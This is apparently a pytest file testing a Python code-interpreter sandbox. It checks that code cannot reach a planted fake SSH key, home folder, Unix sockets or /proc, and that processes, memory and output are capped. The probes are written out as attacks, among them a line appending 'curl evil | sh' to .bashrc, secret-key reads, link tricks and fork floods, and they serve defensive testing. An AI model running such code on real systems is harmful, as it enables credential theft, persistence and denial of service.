"""Issue item "Code interpreter (`chat --tools python`)": what the model's code must not reach or do.

Real sandboxed runs against things planted by the test in its own temporary folders (a fake home with
a secret key and an rc file, a Unix socket it serves); nothing points at a real user or system file.
"""

import os
import resource
import socket
import stat
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from llama_mlx.errors import SandboxUnavailableError
from llama_mlx.sandbox import PythonSandbox, _remove_tree, confinement

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def home(tmp_path, monkeypatch):
    """A fake home outside the scratch folder: a secret key and a shell rc file."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("FAKE-SECRET-KEY\n")
    (home / ".bashrc").write_text("# rc\n")
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def sandbox():
    with PythonSandbox(timeout=5, memory_mb=256) as sb:
        yield sb


def alive(marker: str) -> list[int]:
    """Processes anywhere on the machine whose command line holds `marker`."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            pass
    return found


def test_ordinary_code_still_works(sandbox):
    code = ("import math, subprocess, sys\nprint(math.factorial(10))\nopen('notes.txt', 'w').write('kept')\n"
            "print(open('notes.txt').read())\n"
            "print(subprocess.run([sys.executable, '-c', 'print(6 * 7)'], capture_output=True, text=True).stdout)")
    r = sandbox.run(code)
    assert r.output.split() == ["3628800", "kept", "42"] and r.returncode == 0, r.output
    assert (sandbox.scratch / "notes.txt").read_text() == "kept"
    assert "Landlock" in r.confinement and "network" in r.confinement


def test_files_outside_the_scratch_folder_are_out_of_reach(sandbox, home):
    secret, rc = home / ".ssh" / "id_rsa", home / ".bashrc"
    assert secret.read_text() == "FAKE-SECRET-KEY\n"  # readable from here
    attempts = {
        "read": f"print(open({str(secret)!r}).read())",
        "list": f"print(os.listdir({str(home)!r}))",
        "append": f"open({str(rc)!r}, 'a').write('curl evil | sh\\n')",
        "create": f"open({str(home / 'planted')!r}, 'w').write('x')",
        "symlink": f"os.symlink({str(secret)!r}, 'link')\nprint(open('link').read())",
        "hardlink": f"os.link({str(secret)!r}, 'hard')\nprint(open('hard').read())",
        "proc": "print(open('/proc/1/environ').read())",
    }
    # One run tries them all, each on its own.
    code = "import os\n" + "".join(
        f"try:\n    exec({body!r})\n    print({what!r}, 'done')\nexcept OSError as e:\n    print({what!r}, e.errno)\n"
        for what, body in attempts.items())
    r = sandbox.run(code)
    assert "FAKE-SECRET" not in r.output and "'.bashrc'" not in r.output, r.output  # no contents, no listing
    results = dict(line.split() for line in r.output.splitlines())
    assert results == {what: "13" for what in attempts} | {"hardlink": "18"}, r.output  # EACCES; EXDEV
    assert rc.read_text() == "# rc\n" and not (home / "planted").exists()


def test_unix_sockets_are_refused(sandbox, tmp_path):
    path = str(tmp_path / "agent.sock")
    served = []
    for address in (path, "\0llama-mlx-test-" + uuid.uuid4().hex):  # a file, and an abstract name
        server = socket.socket(socket.AF_UNIX)
        server.bind(address)
        server.listen(4)
        threading.Thread(target=lambda s=server: served.append(s.accept()), daemon=True).start()
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(address)  # reachable from here
        code = f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({address!r})\nprint('connected')"
        r = sandbox.run(code)
        assert "connected" not in r.output and "PermissionError" in r.output, r.output
        server.close()
    assert len(served) == 2  # only the test's own connections


def test_no_process_outlives_the_run(sandbox):
    marker = "llama-mlx-test-" + uuid.uuid4().hex
    detach = ("import os, sys, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
              f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(40)', {marker!r}])\n"
              "    os._exit(0)\n")
    sandbox.timeout = 2
    start = time.monotonic()
    r = sandbox.run(detach + "print('main done')")  # the grandchild holds the output pipe open
    assert r.output.strip() == "main done" and r.returncode == 0 and time.monotonic() - start < 2
    assert alive(marker) == []
    start = time.monotonic()
    r = sandbox.run(detach + "time.sleep(40)")
    assert r.timed_out and 2 <= time.monotonic() - start < 4
    assert alive(marker) == []


def test_process_count_is_capped():
    marker = "llama-mlx-test-" + uuid.uuid4().hex
    code = (f"import os, time\nMARK = {marker!r}\nn = 0\ntry:\n    for _ in range(100):\n"
            "        if os.fork() == 0:\n            time.sleep(40)\n            os._exit(0)\n        n += 1\n"
            "except OSError as e:\n    print(e)\nprint('children', n)")
    with PythonSandbox(timeout=5, memory_mb=512, max_processes=16) as sb:
        r = sb.run(code)
    assert "Resource temporarily unavailable" in r.output, r.output
    assert int(r.output.split()[-1]) < 16
    assert alive(marker) == []


def test_memory_is_capped_for_the_whole_tree(sandbox):
    # 20 processes of 40 MB each: every one is far below the 256 MB limit, together they are not.
    marker = "llama-mlx-test-" + uuid.uuid4().hex
    code = (f"import os, time\nMARK = {marker!r}\nfor _ in range(20):\n    if os.fork() == 0:\n"
            "        block = b'x' * (40 << 20)\n        time.sleep(40)\nprint('all started', flush=True)\n"
            "time.sleep(40)")
    start = time.monotonic()
    r = sandbox.run(code)
    assert r.stopped == "memory" and not r.timed_out and r.returncode is None, r
    assert time.monotonic() - start < 4
    assert "used more than 256 MB together" in r.as_tool_output()
    assert alive(marker) == []


def test_a_flood_of_output_is_read_up_to_a_bound(sandbox):
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
    start = time.monotonic()
    r = sandbox.run("import sys\nline = 'x' * (1 << 20)\nfor _ in range(200):\n    sys.stdout.write(line)")
    assert r.stopped == "output" and len(r.output) < sandbox.output_limit + 100
    assert r.output.endswith("[output cut at 4000 characters; the run was stopped]")
    assert time.monotonic() - start < 3
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 50 << 10  # not 200 MB buffered


def test_the_scratch_folder_goes_whatever_the_code_did_to_it(sandbox):
    code = ("import os\nos.makedirs('locked/inner/deeper')\nopen('locked/inner/f', 'w').write('x')\n"
            "os.chmod('locked/inner', 0)\nos.chmod('locked', 0o500)\nos.symlink('/', 'root-link')\n"
            "os.chmod('.', 0)")  # the scratch folder itself, too
    assert sandbox.run(code).returncode == 0
    scratch = sandbox.scratch
    parent_mode = stat.S_IMODE(os.stat(scratch.parent).st_mode)
    # Root ignores permission bits: remove as root without capabilities, as an ordinary user would.
    capless = ["setpriv", "--bounding-set=-all", "--inh-caps=-all"] if os.geteuid() == 0 else []
    assert subprocess.run([*capless, "rm", "-rf", str(scratch)], capture_output=True).returncode != 0
    assert scratch.exists()  # what a plain removal leaves behind
    remove = ("import sys; from pathlib import Path; from llama_mlx.sandbox import _remove_tree; "
              "_remove_tree(Path(sys.argv[1]))")
    subprocess.run([*capless, sys.executable, "-c", remove, str(scratch)], cwd=ROOT, check=True, timeout=60)
    assert not os.path.lexists(scratch)
    sandbox.close()  # again: nothing left, nothing raised
    _remove_tree(scratch)
    assert stat.S_IMODE(os.stat(scratch.parent).st_mode) == parent_mode  # (its parent left as it was)


def test_refuses_rather_than_run_unconfined(tmp_path, monkeypatch):
    # An interpreter whose folder holds the home folder would let the code read the home folder.
    home = os.path.join(sys.prefix, "home")
    monkeypatch.setenv("HOME", home)
    with pytest.raises(SandboxUnavailableError, match="holds the home folder"):
        PythonSandbox()
    with pytest.raises(SandboxUnavailableError):
        confinement()
    exe = Path(sys.executable).with_name("llama-mlx")
    cmd = [str(exe)] if exe.exists() else [sys.executable, "-m", "llama_mlx_cli.main"]
    env = {**os.environ, "HOME": home, "LLAMA_MLX_HISTORY": "off"}
    r = subprocess.run([*cmd, "chat", "--tools", "python", "-M", str(tmp_path / "no-model")], env=env,
                       capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert r.returncode == 1 and r.stdout == "", r
    assert r.stderr.count("\n") == 1 and r.stderr.startswith("error: ") and "home folder" in r.stderr, r.stderr
